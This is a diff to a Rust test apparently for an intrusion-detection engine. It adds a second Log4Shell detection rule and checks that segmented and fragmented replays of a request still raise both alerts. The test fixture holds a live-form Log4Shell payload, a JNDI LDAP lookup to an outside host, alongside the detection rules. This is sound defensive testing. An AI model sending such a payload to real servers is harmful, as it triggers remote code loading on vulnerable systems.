@@ -17,8 +17,12 @@ const CISN: u32 = 1_000;
 const SISN: u32 = 5_000;
 const REQUEST: &[u8] =
     b"GET /search?q=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1\r\nHost: tickets.venue.example\r\nUser-Agent: curl/8\r\n\r\n";
+/// sid 1 looks for one string; sid 2 for two, far apart, whose stronger
+/// half (the prefilter's pattern) arrives before the other when split.
 const RULES: &str = "alert tcp any any -> any 80 (msg:\"JNDI lookup\"; flow:established,to_server; \
-                     content:\"${jndi:ldap://\"; nocase; sid:1;)\n";
+                     content:\"${jndi:ldap://\"; nocase; sid:1;)\n\
+                     alert tcp any any -> any 80 (msg:\"JNDI to the ticket host\"; flow:established,to_server; \
+                     content:\"${jndi:ldap://198.51.100.23\"; fast_pattern; content:\"Host: tickets\"; distance:0; sid:2;)\n";
 
 /// A segment of the connection as (direction is to server, seq offset, flags, payload).
 struct Seg {
@@ -141,6 +145,12 @@ fn request_pieces(cuts: &[usize], order: &[usize]) -> Vec<Seg> {
 }
 
 fn replay_variant(name: &str, ip_packets: Vec<Vec<u8>>) -> Vec<(u64, String, String)> {
+    let mut got = replay_unsorted(name, ip_packets);
+    got.sort();
+    got
+}
+
+fn replay_unsorted(name: &str, ip_packets: Vec<Vec<u8>>) -> Vec<(u64, String, String)> {
     let dir = scratch(&format!("evasion-{name}"));
     let mut w = PcapWriter::new(Vec::new(), linktype::ETHERNET, TsResolution::Micros).unwrap();
     let eth = Ethernet::new([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
@@ -176,7 +186,10 @@ fn variant(name: &str, data: Vec<Seg>, frag: Option<usize>, reverse_fragments: b
 
 #[test]
 fn every_evasion_raises_the_same_alert() {
-    let expected = vec![(1u64, CLIENT.to_string(), SERVER.to_string())];
+    let expected = vec![
+        (1u64, CLIENT.to_string(), SERVER.to_string()),
+        (2u64, CLIENT.to_string(), SERVER.to_string()),
+    ];
     let n = REQUEST.len();
     let whole = variant("whole", request_pieces(&[], &[0]), None, false);
     assert_eq!(whole, expected, "whole");
